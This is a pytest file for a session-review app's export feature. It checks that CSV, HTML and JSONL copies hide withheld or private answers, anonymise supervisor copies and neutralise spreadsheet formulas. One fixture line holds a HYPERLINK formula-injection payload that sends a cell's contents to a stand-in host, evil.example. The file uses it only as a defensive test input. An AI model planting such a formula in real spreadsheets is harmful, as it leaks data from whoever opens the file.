"""Copies of a session: what each holds for whom, that a spreadsheet runs nothing in them, and that nothing comes back that was changed or taken back."""

import csv
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from goround.domain.events import Event
from goround.review.exports import Reader, Table
from goround.review.exports.in_lines import TOLD
from goround.review.exports.in_tables import FORMULA
from goround.review.recording import Recording
from goround.runtime.room import Room
from goround.web.export_files import Format, export_file
from tests.playbook import Ask, fay
from tests.review.evening import NAMES, SECRET, WROTE
from tests.web.looked_back import EVERYBODY, INSTEAD, LEFT_OUT, PAST, PLAN, looked_back_on, wrote
from tests.web.people import Browser, Console
from tests.web.premises import DANA, Premises, opened, staffed

SLY = '=HYPERLINK("//evil.example?"&A1,"Open")'
"""What somebody might write so that a spreadsheet does something."""
PAST_WITH_SLY = (*PAST, Ask(fay, wrote(SLY)))


@pytest_asyncio.fixture(scope="module")
async def site(tmp_path_factory: pytest.TempPathFactory, accounts: Path) -> AsyncIterator[Premises]:
    async with opened(staffed(accounts, tmp_path_factory.mktemp("exports") / "site")) as place:
        yield place


@pytest_asyncio.fixture(scope="module")
async def evening(site: Premises) -> Room:
    """An evening with everything, and a last answer that looks like a formula."""
    return await looked_back_on(site, PAST_WITH_SLY)


@pytest.fixture(scope="module")
def recording(site: Premises, evening: Room) -> Recording:
    return site.recording(evening.session)


@pytest_asyncio.fixture
async def dana(site: Premises) -> AsyncIterator[Browser]:
    async with Console(site) as console:
        yield (await console.follows(site.let_in(DANA))).browser


def copy(recording: Recording, form: Format, reader: Reader = Reader.FACILITATOR, lang: str = "en") -> bytes:
    return export_file(recording, form, reader, lang).content  # type: ignore[arg-type]


def unpacked(made: bytes) -> dict[str, str]:
    """The files of a ZIP, as text."""
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        return {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}


def whole(recording: Recording, form: Format, reader: Reader) -> str:
    made = copy(recording, form, reader)
    return "\n".join(unpacked(made).values()) if form is Format.CSV else made.decode()


def rows(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table)))


@pytest.mark.parametrize("form", Format)
@pytest.mark.parametrize("reader", Reader)
def test_what_was_changed_taken_back_private_or_nameless_is_in_no_copy(
    recording: Recording, form: Format, reader: Reader
) -> None:
    """B3"""
    made = whole(recording, form, reader)
    assert not [word for word in LEFT_OUT if word in made]
    assert INSTEAD in made and "They laughed together" in made
    nameless = [line for line in made.splitlines() if SECRET in line]
    for line in nameless:
        assert not re.search(r'"seat"|\bseat\b', line) and not [name for name in EVERYBODY if name in line], line


@pytest.mark.parametrize("form", Format)
def test_a_supervisors_copy_names_nobody_and_says_so(recording: Recording, form: Format) -> None:
    """B4"""
    made = whole(recording, form, Reader.SUPERVISOR)
    assert not [name for name in EVERYBODY if re.search(rf"\b{name}\b", made)]
    assert NAMES["ben"] in whole(recording, form, Reader.FACILITATOR), "Then nothing was left out of the other."
    readme = {"csv": "no names are in it", "html": "People are numbers of seats", "jsonl": '"reader": "supervisor"'}
    assert readme[form.value] in made


@pytest.mark.parametrize("reader", Reader)
async def test_the_copy_of_a_rehearsal_says_that_names_are_in_it_and_whose_words(
    site: Premises, reader: Reader
) -> None:
    """B4: of a rehearsal names are told to a supervisor too."""
    room = await looked_back_on(site, PAST, rehearsal=True)
    rehearsed = site.recording(room.session)
    for form in Format:
        assert NAMES["ben"] in whole(rehearsed, form, reader), form
    readme = unpacked(copy(rehearsed, Format.CSV, reader))["README.txt"]
    assert (
        "given by made-up people, or by staff to practice" in readme and "Names are in it, whoever reads it" in readme
    )
    assert not [wrong for wrong in ("nobody's own words", "no names are in it", "treatment record") if wrong in readme]
    for lang, said in (
        ("en", "Names are in it, whoever reads it"),
        ("es", "Contiene nombres, sea quien sea quien la lea"),
    ):
        page = copy(rehearsed, Format.HTML, reader, lang).decode()
        assert said in page and "People are numbers of seats" not in page


def test_every_line_is_json_and_none_says_by_which_ask_it_came(recording: Recording) -> None:
    """B11"""
    lines = [json.loads(line) for line in copy(recording, Format.JSONL).decode().splitlines()]
    head, told = lines[0], lines[1:]
    assert head["export"] == "goround" and head["whole"] is True and "not the record" in head["note"]
    assert [one["line"] for one in told] == list(range(1, len(told) + 1))
    assert all(set(one) == {"line", "at", "by", "events"} for one in told)
    assert all(re.fullmatch(r"2027-01-1\dT\d\d:\d\d:\d\d\.\d{3}-06:00", one["at"]) for one in told), "Local time."
    refs = [entry.ref for entry in recording.entries if entry.ref]
    text = copy(recording, Format.JSONL).decode()
    assert '"ref"' not in text and not [ref for ref in refs if ref in text]
    assert recording.last.code and str(recording.last.code) not in text, "The way in is in a copy."
    answers = [event for one in told for event in one["events"] if event["type"] == "answered"]
    assert {one["withheld"] for one in answers if "withheld" in one} == {"changed", "private", "taken_back"}
    assert all(one["answer"] is None for one in answers if "withheld" in one)
    assert not [one for one in answers if one["step"] == "main.secret"], "A nameless answer stands beside its seat."


def test_every_kind_of_event_is_told_or_left_out_by_name() -> None:
    """B11"""

    def descended(kind: type[Event]) -> set[type[Event]]:
        return {each for child in kind.__subclasses__() for each in ({child} | descended(child))}

    events = {kind for kind in descended(Event) if kind.__module__.startswith("goround.")}
    assert events == set(TOLD), f"Nothing is said of these: {events ^ set(TOLD)}"


def test_no_cell_is_taken_for_a_formula(recording: Recording) -> None:
    """B12"""
    tables = unpacked(copy(recording, Format.CSV))
    cells = [
        cell
        for name, text in tables.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(text))
        for cell in row
    ]
    assert f"'{SLY}" in cells
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA)]
    sly = Table(
        "t", "One row.", ("a",), tuple((f"{start}1+1",) for start in ("=", "+", "-", "@", " =", "\t", "\r", "\uff1d"))
    )
    for row in list(csv.reader(io.StringIO(sly.csv(), newline="")))[1:]:
        assert row[0].startswith("'"), row
    numbers = Table("t", "One row.", ("a", "b", "c"), ((-3, 2.5, None),)).csv()
    assert numbers.splitlines()[1] == '-3,2.5,""', "A number is no formula and needs no mark."


def test_the_tables_hold_their_facts_and_the_readme_says_what_each_is(recording: Recording) -> None:
    """B12"""
    files = unpacked(copy(recording, Format.CSV))
    assert set(files) == {
        "README.txt", *(f"{name}.csv" for name in ("session", "steps", "people", "answers", "room", "alerts", "marks"))
    }  # fmt: skip
    readme = files["README.txt"]
    for name, text in files.items():
        if name.endswith(".csv"):
            columns = text.splitlines()[0].replace('"', "").split(",")
            assert name in readme and f"Columns: {', '.join(columns)}" in readme, name
    assert "Names are in it" in readme and "goround verify" in readme and "America/Chicago" in readme
    answers = {(row["name"], row["step"]): row for row in rows(files["answers.csv"])}
    assert answers[NAMES["ben"], PLAN]["answer"] == INSTEAD
    assert answers[NAMES["dee"], PLAN]["how"] == "passed" and answers[NAMES["dee"], PLAN]["answer"] == ""
    assert answers[NAMES["ann"], "main.note"]["how"] == "kept by the person"
    assert not [row for row in answers.values() if row["step"] == "main.secret"]
    assert [row["name"] for row in rows(files["people.csv"])] == [
        NAMES[one] for one in ("ann", "cam", "dee", "ben")
    ] + ["Gustavo", NAMES["fay"]]
    assert [row["words"] for row in rows(files["marks.csv"])] == ["They laughed together"]
    assert len(rows(files["alerts.csv"])) == 2


def test_the_same_session_gives_the_same_bytes(recording: Recording) -> None:
    """B12"""
    for form in Format:
        assert copy(recording, form) == copy(recording, form)


def test_the_page_is_whole_by_itself_in_both_languages(recording: Recording) -> None:
    """B13"""
    for lang, said in (("en", "Counted time"), ("es", "Tiempo contado")):
        page = copy(recording, Format.HTML, lang=lang).decode()
        assert f'<html lang="{lang}">' in page and said in page and WROTE["cam"] in page
        assert not re.search(r'(?:src|href)="|<script|url\(|@import', page), "It needs something from elsewhere."
        assert "&#34;//evil.example" in page, "What people wrote is escaped."
        assert "@media print" in page


@pytest.mark.parametrize("form", Format)
async def test_staff_take_a_copy_along_from_the_facts(
    site: Premises, evening: Room, dana: Browser, form: Format
) -> None:
    """B14"""
    facts = await dana.get(f"/staff/s/{evening.session}/facts")
    address = f"/staff/s/{evening.session}/export/{form}"
    assert f'href="{address}"' in facts.text and "Names are in each of these copies" in facts.text
    async with dana.web.get(site.address + address) as answer:
        content = await answer.read()
        assert answer.status == 200 and answer.headers["Cache-Control"] == "no-store"
        said = answer.headers["Content-Disposition"]
        assert said.startswith('attachment; filename="session.') and not [name for name in EVERYBODY if name in said]
    assert content == copy(site.recording(evening.session), form)


async def test_a_wrong_format_or_session_and_a_stranger_are_told_so(
    site: Premises, evening: Room, dana: Browser
) -> None:
    """B14"""
    for path, status, sentence in (
        (f"/staff/s/{evening.session}/export/pdf", 404, "There is no such format."),
        ("/staff/s/nothere/export/csv", 404, "There is no such session."),
    ):
        page = await dana.get(path)
        assert (page.status, page.text.strip()) == (status, sentence)
    async with Browser(site) as stranger:
        page = await stranger.get(f"/staff/s/{evening.session}/export/csv")
        assert (page.status, page.leads_to) == (303, "/staff/sign-in")
